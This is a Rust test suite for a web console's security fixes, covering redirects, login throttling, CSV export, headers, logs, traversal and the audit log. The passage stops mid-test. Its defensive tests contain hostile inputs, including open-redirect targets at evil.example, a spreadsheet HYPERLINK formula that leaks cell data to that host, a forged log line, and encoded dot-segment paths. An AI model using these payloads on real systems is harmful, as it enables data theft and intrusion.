//! The security review's findings (issue 15), one test each, named for what it proves: sign-in
//! and its throttle, what the answers carry and leak, the exports, the audit log's own safety.

use crate::support::{
    add_user, browser, call, config, open, signed_in, Backend, Served, TestApp, TEST_PASSWORD,
};
use std::io::{Read, Write};
use std::process::Command;
use std::time::{Duration, Instant};
use sti_rollout::db::{audit, Schema};
use sti_rollout::domain::access::Role;

async fn login(app: &TestApp, client: &reqwest::Client, name: &str, password: &str) -> reqwest::Response {
    client
        .post(format!("{}/login", app.address))
        .form(&[("username", name), ("password", password), ("next", "/")])
        .send()
        .await
        .unwrap()
}

/// A request sent byte for byte (no URL normalisation on the way): the status and the body.
fn raw_get(address: &str, path: &str, cookie: Option<&str>) -> (u16, String) {
    let host = address.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(host).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let cookie = cookie.map(|c| format!("Cookie: {c}\r\n")).unwrap_or_default();
    write!(stream, "GET {path} HTTP/1.1\r\nHost: {host}\r\n{cookie}Connection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    let status = answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    (status, answer)
}

// --- 1. open redirect ---------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_next_outside_the_consoles_own_pages_goes_home_after_sign_in() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    for (next, expected) in [
        ("/\t/evil.example", "/"),
        ("/\n/evil.example", "/"),
        ("/ /evil.example", "/"),
        ("/\u{0}//evil.example", "/"),
        ("//evil.example", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example/", "/"),
        ("/no-such-page", "/"),
        ("/env/prod", "/env/prod"),
        ("/audit?actor=ana", "/audit?actor=ana"),
        ("/keys", "/keys"),
    ] {
        let response = browser()
            .post(format!("{}/login", app.address))
            .form(&[("username", "tester"), ("password", TEST_PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 303, "{next:?}");
        assert_eq!(response.headers()["location"].to_str().unwrap(), expected, "next = {next:?}");
    }
}

// --- 2. the throttle: atomic, shared, kept -------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forty_guesses_sent_at_once_are_not_all_checked_and_stay_counted_after_a_restart() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    add_user(&control, "guessed", Role::Operator).await;
    let mut guesses = tokio::task::JoinSet::new();
    for n in 0..40 {
        let url = format!("{}/login", app.address);
        guesses.spawn(async move {
            let form = [("username", "guessed".to_owned()), ("password", format!("guess {n}"))];
            browser().post(url).form(&form).send().await.unwrap().status().as_u16()
        });
    }
    let mut statuses = Vec::new();
    while let Some(status) = guesses.join_next().await {
        statuses.push(status.unwrap());
    }
    let checked = statuses.iter().filter(|s| **s == 303).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert!(checked <= 4, "{checked} of 40 guesses were checked: {statuses:?}");
    assert_eq!(checked + refused, 40, "{statuses:?}");

    // 9: the throttled ones leave one audit entry, not one each
    let entries = audit::recent(&control, None, 1000).await.unwrap();
    let throttled = entries.iter().filter(|e| e.action == "login.throttled").count();
    assert!((1..=2).contains(&throttled), "{throttled} entries for {refused} throttled sign-ins");

    // another console on the same control database (a replica, or this one restarted) goes on
    // counting: the next check allowed is the (checked + 1)th failure in a row, after which the
    // next one waits; counted from zero it would be the first, after which nobody waits
    drop(app);
    let again = TestApp::start(&config).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let response = login(&again, &browser(), "guessed", "one more guess").await;
        match response.status().as_u16() {
            303 => break,
            429 if Instant::now() < deadline => {
                let seconds: u64 = response.headers()["retry-after"].to_str().unwrap().parse().unwrap();
                tokio::time::sleep(Duration::from_secs(seconds)).await;
            }
            other => panic!("{other}"),
        }
    }
    let response = login(&again, &browser(), "guessed", "and another").await;
    assert_eq!(response.status().as_u16(), 429, "the count survived the restart");
    // the refused ones are counted: the next failed sign-in's entry says how many
    let entries = audit::recent(&control, None, 1000).await.unwrap();
    let failed = entries.iter().find(|e| e.action == "login.failed").unwrap();
    assert!(failed.after.as_deref().unwrap().contains(r#""refused_so_far":"#), "{failed:?}");
}

// --- 3. no lock-out by anyone; the address from a trusted proxy only -------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_sign_ins_slow_a_user_down_but_do_not_lock_them_out() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let stranger = browser();
    let started = Instant::now();
    let mut waits = Vec::new();
    let mut failed = 0;
    while failed < 5 {
        let response = login(&app, &stranger, "tester", "not the password").await;
        match response.status().as_u16() {
            303 => failed += 1,
            429 => {
                let seconds: u64 = response.headers()["retry-after"].to_str().unwrap().parse().unwrap();
                assert!((1..=60).contains(&seconds), "{seconds}");
                waits.push(seconds);
                tokio::time::sleep(Duration::from_secs(seconds)).await;
            }
            other => panic!("{other}"),
        }
        assert!(started.elapsed() < Duration::from_secs(60), "five failures took over a minute: {waits:?}");
    }
    assert!(!waits.is_empty(), "repeated failures must slow down: {waits:?}");
    // the real user, after the delay, signs in (and is not blocked for a quarter of an hour)
    let deadline = Instant::now() + Duration::from_secs(40);
    loop {
        let response = login(&app, &browser(), "tester", TEST_PASSWORD).await;
        match response.status().as_u16() {
            303 => {
                assert_eq!(response.headers()["location"], "/");
                break;
            }
            429 if Instant::now() < deadline => {
                let seconds: u64 = response.headers()["retry-after"].to_str().unwrap().parse().unwrap();
                tokio::time::sleep(Duration::from_secs(seconds)).await;
            }
            other => panic!("the right password after the delay: {other}"),
        }
    }
    // a success resets the count: the next failure is not delayed
    let response = login(&app, &stranger, "tester", "not the password").await;
    assert_eq!(response.status().as_u16(), 303);
}

fn write_config(dir: &std::path::Path, text: &str) -> std::path::PathBuf {
    let path = dir.join("sti.toml");
    std::fs::write(&path, text).unwrap();
    path
}

/// The tests' SQLite configuration, with `file` as its config file on top.
async fn config_with_file(file: &str) -> (sti_rollout::server::config::Config, tempfile::TempDir) {
    let (base, dir) = crate::support::config(Backend::Sqlite, [1, 1, 1]).await;
    let path = write_config(dir.path(), file);
    let mut config = sti_rollout::server::config::Config::load_with(
        &base.data_dir,
        Some(&path),
        &std::collections::BTreeMap::new(),
    )
    .unwrap();
    config.targets = base.targets.clone();
    (config, dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_client_address_is_taken_from_a_trusted_proxy_only() {
    for (trusted, expected) in [(true, "203.0.113.7"), (false, "127.0.0.1")] {
        let file = if trusted { "[security]\ntrusted_proxies = [\"127.0.0.1\"]\n" } else { "" };
        let (config, _dir) = config_with_file(file).await;
        let app = TestApp::start(&config).await;
        let response = browser()
            .post(format!("{}/login", app.address))
            .header("x-forwarded-for", "198.51.100.1, 203.0.113.7")
            .header("x-forwarded-proto", "https")
            .form(&[("username", "tester"), ("password", "wrong")])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 303);
        // HSTS only when a trusted proxy says the browser came over TLS
        assert_eq!(response.headers().contains_key("strict-transport-security"), trusted);
        let control = open(&config.control, Schema::Control).await;
        let failed = audit::recent(&control, None, 100).await.unwrap();
        let failed = failed.iter().find(|e| e.action == "login.failed").unwrap();
        let after = failed.after.as_deref().unwrap();
        assert!(after.contains(&format!(r#""address":"{expected}""#)), "trusted {trusted}: {after}");
    }
}

// --- 5. CSV formula injection ----------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_typed_into_a_comment_is_inert_in_the_audit_export() {
    use sti_rollout::engine::dead_letters::csv_field;
    for (field, expected) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "\"'\rx\""),
        ("=HYPERLINK(\"a\",\"b\")", "\"'=HYPERLINK(\"\"a\"\",\"\"b\"\")\""),
        ("missing_school", "missing_school"),
    ] {
        assert_eq!(csv_field(field), expected, "{field:?}");
    }

    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let viewer = app.sign_in_new(&control, "stakeholder", Role::Viewer).await;
    let admin = app.sign_in_new(&control, "boss", Role::Admin).await;
    let items = sti_rollout::db::checklist::items(&control).await.unwrap();
    let item = items.iter().find(|i| i.owner_role == Role::Viewer).unwrap().id;
    let comment = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the report\")";
    let body = serde_urlencoded::to_string([
        ("env", "dev"),
        ("item_id", &item.to_string()),
        ("state", "fail"),
        ("comment", comment),
        ("evidence_url", ""),
    ])
    .unwrap();
    let (code, answer) = call(&app, &viewer, "sign_checklist", &body).await;
    assert_eq!(code, 200, "{answer}");
    let csv = admin.get(format!("{}/audit.csv", app.address)).send().await.unwrap().text().await.unwrap();
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "a live formula in {line}");
        }
    }
}

// --- 6. security headers, CSP with the hydration nonce --------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_and_exports_carry_the_security_headers_and_the_script_its_nonce() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let mut nonces = Vec::new();
    for path in ["/", "/env/dev", "/audit.csv", "/login"] {
        let response = app.client.get(format!("{}{path}", app.address)).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200, "{path}");
        let headers = response.headers().clone();
        let header = |name: &str| headers.get(name).map(|v| v.to_str().unwrap().to_owned());
        assert_eq!(header("x-frame-options").as_deref(), Some("DENY"), "{path}");
        assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"), "{path}");
        assert_eq!(header("referrer-policy").as_deref(), Some("same-origin"), "{path}");
        assert_eq!(header("cache-control").as_deref(), Some("no-store"), "{path}");
        assert!(header("strict-transport-security").is_none(), "plain http: no HSTS");
        let csp = header("content-security-policy").unwrap_or_else(|| panic!("{path}: no CSP"));
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert!(csp.contains("default-src 'self'"), "{csp}");
        assert!(!csp.contains("unsafe-inline'") || csp.contains("style-src-attr"), "{csp}");
        let html = response.text().await.unwrap();
        if html.contains("<script") {
            let nonce = csp.split("'nonce-").nth(1).and_then(|n| n.split('\'').next()).unwrap().to_owned();
            for script in html.split("<script").skip(1) {
                let tag = &script[..script.find('>').unwrap()];
                assert!(
                    tag.contains(&format!("nonce=\"{nonce}\"")),
                    "{path}: a script without the nonce: {tag}"
                );
            }
            nonces.push(nonce);
        }
    }
    assert!(nonces.len() >= 2, "{nonces:?}");
    nonces.sort();
    nonces.dedup();
    assert!(nonces.len() >= 2, "a new nonce every page");
    let asset = browser().get(format!("{}/health", app.address)).send().await.unwrap();
    assert_eq!(asset.headers()["x-content-type-options"], "nosniff");
}

// --- 8. event streams end with their session ------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_event_stream_ends_when_its_session_ends() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    for path in ["/events/dev", "/events"] {
        let client = signed_in(&app.address, "tester").await;
        let mut stream = client.get(format!("{}{path}", app.address)).send().await.unwrap();
        assert_eq!(stream.status().as_u16(), 200);
        if path == "/events/dev" {
            let first = tokio::time::timeout(Duration::from_secs(10), stream.chunk()).await.unwrap().unwrap();
            assert!(first.is_some());
        }
        let out = client.post(format!("{}/logout", app.address)).send().await.unwrap();
        assert_eq!(out.status().as_u16(), 303);
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match tokio::time::timeout(left, stream.chunk()).await {
                Err(_) => panic!("{path} still streams 10 s after sign-out"),
                Ok(Ok(None) | Err(_)) => break,
                Ok(Ok(Some(_))) => continue,
            }
        }
    }
}

// --- 9. exports are streamed --------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_exports_are_streamed_not_built_in_memory() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    for n in 0..2500 {
        let reason = format!("entry {n}");
        let entry = audit::Entry {
            actor: "system",
            action: "test.fill",
            reason: Some(&reason),
            ..Default::default()
        };
        audit::record(&control, entry).await.unwrap();
    }
    let csv_rows: fn(&str) -> usize = |body| body.lines().count() - 1;
    let json_rows: fn(&str) -> usize =
        |body| serde_json::from_str::<Vec<serde_json::Value>>(body).unwrap().len();
    for (path, count) in [("/audit.csv", csv_rows), ("/audit.json", json_rows)] {
        let response = app.client.get(format!("{}{path}", app.address)).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200);
        assert!(response.headers().get("content-length").is_none(), "{path} was built whole in memory");
        let body = response.text().await.unwrap();
        assert!(count(&body) >= 2500, "{path}: {}", count(&body));
    }
}

// --- 10, 11. sign-in timing and argon2 off the async workers --------------------------------

fn median(mut values: Vec<Duration>) -> Duration {
    values.sort();
    values[values.len() / 2]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_user_takes_as_long_to_refuse_as_a_wrong_password() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let stored = sti_rollout::server::password::hash("some password").unwrap();
    let hashing = median(
        (0..5)
            .map(|_| {
                let start = Instant::now();
                sti_rollout::server::password::verify("another password", &stored);
                start.elapsed()
            })
            .collect(),
    );
    for n in 0..9 {
        add_user(&control, &format!("known-{n}"), Role::Viewer).await;
    }
    let (mut known, mut unknown) = (Vec::new(), Vec::new());
    for n in 0..9 {
        // each name once (a second failure would wait out the throttle), in turns, so that
        // neither kind is always measured first
        let mut pair = [(format!("known-{n}"), true), (format!("nobody-{n}"), false)];
        if n % 2 == 1 {
            pair.reverse();
        }
        for (user, is_known) in pair {
            let start = Instant::now();
            let response = login(&app, &browser(), &user, "wrong password").await;
            let took = start.elapsed();
            assert_eq!(response.status().as_u16(), 303, "{user}");
            if is_known {
                known.push(took)
            } else {
                unknown.push(took)
            }
        }
    }
    let (known, unknown) = (median(known), median(unknown));
    assert!(
        unknown + hashing / 2 >= known,
        "a wrong password takes {known:?}, an unknown user {unknown:?}: the difference (one hash is {hashing:?}) tells who exists"
    );
}

#[tokio::test(flavor = "current_thread")]
async fn password_hashing_does_not_hold_up_other_requests() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let stored = sti_rollout::server::password::hash("some password").unwrap();
    let start = Instant::now();
    sti_rollout::server::password::verify("another password", &stored);
    let hashing = start.elapsed();
    for n in 0..16 {
        add_user(&control, &format!("hasher-{n}"), Role::Viewer).await;
    }
    let logins = futures::future::join_all((0..16).map(|n| {
        let client = browser();
        let url = format!("{}/login", app.address);
        async move {
            let form = [("username", format!("hasher-{n}")), ("password", "wrong".to_owned())];
            client.post(url).form(&form).send().await.unwrap().status().as_u16()
        }
    }));
    let health = async {
        tokio::time::sleep(Duration::from_millis(5)).await;
        let start = Instant::now();
        let response = browser().get(format!("{}/health", app.address)).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200);
        start.elapsed()
    };
    let (statuses, waited) = futures::future::join(logins, health).await;
    assert!(statuses.iter().all(|s| *s == 303 || *s == 429), "{statuses:?}");
    let blocked = hashing * 16;
    assert!(
        waited < (blocked / 4).max(Duration::from_millis(40)),
        "/health waited {waited:?} behind 16 sign-ins ({hashing:?} of hashing each)"
    );
}

// --- 12, 16. what reaches the log; the data folder ------------------------------------------

/// `serve` on a free port over tiny demo data, its log in `log`.
fn serve_logged(dir: &std::path::Path, log: &std::path::Path) -> Served {
    let config = write_config(dir, "[demo_rows]\ndev = 10\nstaging = 10\nprod = 10\n");
    let mut command = Command::new(env!("CARGO_BIN_EXE_sti-rollout"));
    command
        .args(["--data-dir", &dir.join("data").display().to_string()])
        .args(["--config", &config.display().to_string()])
        .args(["serve", "--addr", "127.0.0.1:0"])
        .current_dir(dir)
        .env("STI_LOG", "info")
        .env_remove("STI_CONTROL_URL")
        .stderr(std::fs::File::create(log).unwrap());
    Served::start(command)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tried_user_name_cannot_forge_log_lines_and_the_data_folder_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("serve.log");
    let server = serve_logged(dir.path(), &log);
    let mode = std::fs::metadata(dir.path().join("data")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "the data folder is {mode:o}");
    let forged = "nobody\r\n2026-12-02T00:00:00.000000Z  INFO sti_rollout: signed in username=admin";
    let password_in_name = "correct-horse-battery-staple-9f8e7d6c5b4a-the-password-typed-in-the-wrong-field";
    for name in [forged, password_in_name] {
        let response = browser()
            .post(format!("{}/login", server.address))
            .form(&[("username", name), ("password", "x")])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 303);
    }
    drop(server);
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("failed login"), "{text}");
    assert!(!text.lines().any(|l| l.starts_with("2026-12-02T00:00:00")), "a forged line in the log:\n{text}");
    assert!(!text.contains('\r'), "a raw CR in the log");
    assert!(!text.contains(password_in_name), "a name that does not parse reached the log:\n{text}");
}

// --- 13. internal error text stays in the log -----------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_error_shows_a_sentence_and_an_id_never_the_database_text() {
    let (config, _dir) = config(Backend::Sqlite, [5, 5, 5]).await;
    let app = TestApp::start(&config).await;
    let dev =
        open(&config.targets[sti_rollout::domain::environment::Environment::Dev].url, Schema::Target).await;
    sqlx::query("drop table sti_backfill_dead_letters").execute(dev.pool()).await.unwrap();
    let (status, body) = app.get("/env/dev/dead-letters.csv").await;
    assert_eq!(status, 503);
    let (code, answer) = call(&app, &app.client, "dead_letters", "env=dev&page=1").await;
    assert_eq!(code, 503);
    for text in [&body, &answer] {
        assert!(!text.contains("no such table") && !text.contains("sti_backfill_dead_letters"), "{text}");
        assert!(text.contains("error id "), "{text}");
    }
}

// --- 14. unknown methods make no metrics series ---------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_http_method_is_counted_as_other() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let method = reqwest::Method::from_bytes(b"BREWCOFFEE").unwrap();
    let response = browser().request(method, format!("{}/api/projects", app.address)).send().await.unwrap();
    assert!(response.status().is_client_error());
    let control = open(&config.control, Schema::Control).await;
    let admin = app.sign_in_new(&control, "boss", Role::Admin).await;
    let metrics = admin.get(format!("{}/metrics", app.address)).send().await.unwrap().text().await.unwrap();
    assert!(!metrics.contains("BREWCOFFEE"), "an anonymous caller added a series");
    assert!(metrics.contains("method=\"OTHER\""), "{metrics}");
}

// --- 15. audit page overflow ------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_audit_page_far_beyond_the_end_is_an_empty_page() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let (status, _) = app.get("/audit?page=9223372036854775807").await;
    assert_eq!(status, 200);
    let (code, body) =
        call(&app, &app.client, "audit_log", "env=&actor=&action=&from=&to=&page=9223372036854775807").await;
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("\"entries\":[]"), "{body}");
}

// --- 16. the audit log is append-only in the database itself --------------------------------

async fn audit_log_refuses_changes(backend: Backend) {
    let (config, _dir) = config(backend, [1, 1, 1]).await;
    let _app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    assert!(!audit::recent(&control, None, 10).await.unwrap().is_empty(), "the sign-in left an entry");
    let update = sqlx::query("update audit_log set actor = 'user:nobody'").execute(control.pool()).await;
    assert!(update.is_err(), "{backend:?}: an entry was changed");
    let delete = sqlx::query("delete from audit_log").execute(control.pool()).await;
    assert!(delete.is_err(), "{backend:?}: entries were deleted");
    assert!(format!("{:?}", delete.unwrap_err()).contains("append-only"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_log_refuses_updates_and_deletes_on_sqlite() {
    audit_log_refuses_changes(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_log_refuses_updates_and_deletes_on_postgres() {
    audit_log_refuses_changes(Backend::Postgres).await;
}

// --- 17. bounded render queue; a cap on streams per session ---------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_page_loads_is_answered_503_not_queued_without_bound() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let mut loads = tokio::task::JoinSet::new();
    for _ in 0..300 {
        let client = app.client.clone();
        let url = format!("{}/env/prod", app.address);
        loads.spawn(async move { client.get(url).send().await.unwrap().status().as_u16() });
    }
    let mut statuses = Vec::new();
    while let Some(status) = loads.join_next().await {
        statuses.push(status.unwrap());
    }
    assert!(statuses.iter().all(|s| *s == 200 || *s == 503), "{statuses:?}");
    assert!(statuses.contains(&503), "300 renders at once were all queued");
    assert!(statuses.contains(&200));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_session_may_hold_only_a_few_event_streams() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let mut open_streams = Vec::new();
    let mut refused = None;
    for n in 0..20 {
        let response = app.client.get(format!("{}/events/dev", app.address)).send().await.unwrap();
        match response.status().as_u16() {
            200 => open_streams.push(response),
            429 => {
                refused = Some(n);
                break;
            }
            other => panic!("{other}"),
        }
    }
    let refused = refused.expect("20 streams on one session");
    assert!((4..=16).contains(&refused), "{refused}");
    // a closed stream frees its place
    open_streams.pop();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let response = app.client.get(format!("{}/events/dev", app.address)).send().await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
}

// --- 18. OFREP does not name console users --------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn flag_evaluations_do_not_tell_who_switched_the_flag() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let dev = sti_rollout::domain::environment::Environment::Dev;
    sti_rollout::engine::operate::set_flag(&control, dev, "user:tester", true, None, Some("test"))
        .await
        .unwrap();
    let (_, key) = sti_rollout::db::api_keys::create(
        &control,
        sti_rollout::domain::environment::Environment::Dev,
        sti_rollout::domain::access::Scope::Read,
        "test",
    )
    .await
    .unwrap();
    for path in ["/ofrep/v1/evaluate/flags/ENABLE_STI", "/ofrep/v1/evaluate/flags"] {
        let response = browser()
            .post(format!("{}{path}", app.address))
            .bearer_auth(&key)
            .body("{}")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 200);
        let body = response.text().await.unwrap();
        assert!(body.contains("\"value\":true"), "{body}");
        assert!(!body.contains("updatedBy") && !body.contains("tester"), "{path}: {body}");
    }
}

// --- 19. encoded dot segments -----------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_dot_segments_under_pkg_do_not_get_past_the_guard() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    for path in [
        "/pkg/%2e%2e/env/dev",
        "/pkg/%2E%2E/audit",
        "/pkg/../env/dev",
        "/pkg/.%2e/keys",
        "/pkg/no-such-file.js",
    ] {
        let (status, answer) = raw_get(&app.address, path, None);
        assert!(matches!(status, 303 | 400 | 404), "{path}: {status}");
        assert!(
            !answer.contains("<html") && !answer.contains("<!DOCTYPE"),
            "{path} rendered a page:\n{answer}"
        );
    }
}

// --- 20. API keys expire and show their last use --------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_api_key_is_refused_and_a_key_shows_when_it_was_last_used() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let admin = app.sign_in_new(&control, "boss", Role::Admin).await;
    let create = |_: ()| {
        sti_rollout::db::api_keys::create(
            &control,
            sti_rollout::domain::environment::Environment::Dev,
            sti_rollout::domain::access::Scope::Read,
            "test",
        )
    };
    let (used, used_key) = create(()).await.unwrap();
    let (expired, expired_key) = create(()).await.unwrap();
    let ask =
        |key: String| browser().get(format!("{}/api/projects?limit=1", app.address)).bearer_auth(key).send();
    assert_eq!(ask(used_key.clone()).await.unwrap().status().as_u16(), 200);
    sqlx::query("update api_keys set expires_at = $1 where id = $2")
        .bind(sti_rollout::db::now_ms() - 1000)
        .bind(expired.id)
        .execute(control.pool())
        .await
        .unwrap();
    assert_eq!(ask(expired_key).await.unwrap().status().as_u16(), 401, "an expired key");
    let (code, keys) = call(&app, &admin, "list_api_keys", "").await;
    assert_eq!(code, 200);
    let keys: Vec<serde_json::Value> = serde_json::from_str(&keys).unwrap();
    let shown = |id: i64| keys.iter().find(|k| k["id"] == id).unwrap().clone();
    assert!(shown(used.id)["last_used_at"].as_i64().is_some(), "{keys:?}");
    assert!(shown(expired.id)["expires_at"].as_i64().is_some(), "{keys:?}");
    assert!(shown(expired.id)["last_used_at"].is_null(), "{keys:?}");
}

// --- 4. every change leaves exactly one audit entry, with its actor ---------------------------

/// Entries by `actor` after entry `after`: their actions.
async fn actions_by(control: &sti_rollout::db::Database, actor: &str, after: i64) -> Vec<String> {
    let entries = audit::recent(control, None, 100_000).await.unwrap();
    entries.iter().rev().filter(|e| e.id > after && e.actor == actor).map(|e| e.action.clone()).collect()
}

async fn newest_entry(control: &sti_rollout::db::Database) -> i64 {
    audit::recent(control, None, 1).await.unwrap().first().map_or(0, |e| e.id)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_change_leaves_its_audit_entry_with_its_actor() {
    use sti_rollout::domain::access::Scope;
    use sti_rollout::domain::environment::Environment;
    let (config, _dir) = config(Backend::Sqlite, [500, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let control = open(&config.control, Schema::Control).await;
    let admin = app.sign_in_new(&control, "boss", Role::Admin).await;
    let (revocable, _) =
        sti_rollout::db::api_keys::create(&control, Environment::Dev, Scope::Read, "test").await.unwrap();
    let item = sti_rollout::db::checklist::items(&control).await.unwrap()[0].id;

    // every server function, in an order in which each one that changes something succeeds;
    // one missing from this table fails the test
    let table: Vec<(&str, String, &[&str])> = vec![
        ("get_overview", String::new(), &[]),
        ("whoami", String::new(), &[]),
        ("list_api_keys", String::new(), &[]),
        ("get_environment", "env=dev".into(), &[]),
        ("dead_letters", "env=dev&page=1".into(), &[]),
        ("audit_log", "env=&actor=&action=&from=&to=&page=1".into(), &[]),
        ("blockers", "env=dev".into(), &[]),
        ("runbook", String::new(), &[]),
        ("my_signoffs", String::new(), &[]),
        ("plan_rollback", "env=dev".into(), &[]),
        ("dry_run", "env=dev&chunk_size=100".into(), &["dry_run"]),
        ("revoke_api_key", format!("id={}", revocable.id), &["apikey.revoke"]),
        (
            "sign_checklist",
            format!("env=dev&item_id={item}&state=fail&comment=walk&evidence_url="),
            &["checklist.sign"],
        ),
        ("add_checklist_item", "title=Audit+walk&owner_role=viewer".into(), &["checklist.add_item"]),
        ("retire_checklist_item", "id={added}".into(), &["checklist.retire_item"]),
        ("set_d_day", "date=2026-12-10&reason=walk".into(), &["timeline.d_day"]),
        ("set_flag", "env=dev&enabled=false&confirm=&reason=walk".into(), &["flag.set"]),
        // the first backfill also installs the capture triggers in the application's database:
        // a change of its own there, recorded as such
        (
            "start_run",
            "env=dev&kind=backfill&chunk_size=10&pause_ms=500&confirm=".into(),
            &["capture.install", "run.start"],
        ),
        ("pace_run", "env=dev&run_id=1&chunk_size=20&pause_ms=500".into(), &["run.pace"]),
        ("control_run", "env=dev&run_id=1&request=pause".into(), &["run.pause"]),
        ("emergency_stop", "env=dev&confirm=&reason=walk".into(), &["emergency_stop"]),
        ("acknowledge_stop", "env=dev&note=walk".into(), &["emergency_stop.acknowledge"]),
        ("verify_environment", "env=dev".into(), &["verify"]),
    ];
    let registered: Vec<String> =
        leptos::server_fn::axum::server_fn_paths().map(|(p, _)| p.to_owned()).collect();
    for path in &registered {
        assert!(
            table.iter().any(|(name, _, _)| path.trim_start_matches("/api/").starts_with(name)),
            "{path} is missing from the audit walk"
        );
    }
    let mut added = String::new();
    for (name, body, expected) in &table {
        let body = body.replace("{added}", &added);
        let before = newest_entry(&control).await;
        let (code, answer) = call(&app, &admin, name, &body).await;
        assert_eq!(code, 200, "{name}: {answer}");
        if *name == "add_checklist_item" {
            added = answer.trim().to_owned();
        }
        let actions = actions_by(&control, "user:boss", before).await;
        assert_eq!(actions, *expected, "{name} as user:boss");
    }

    // the plain routes that change something: signing in and out, and the applications' writes
    let before = newest_entry(&control).await;
    let client = signed_in(&app.address, "boss").await;
    assert_eq!(actions_by(&control, "user:boss", before).await, ["login"]);
    let before = newest_entry(&control).await;
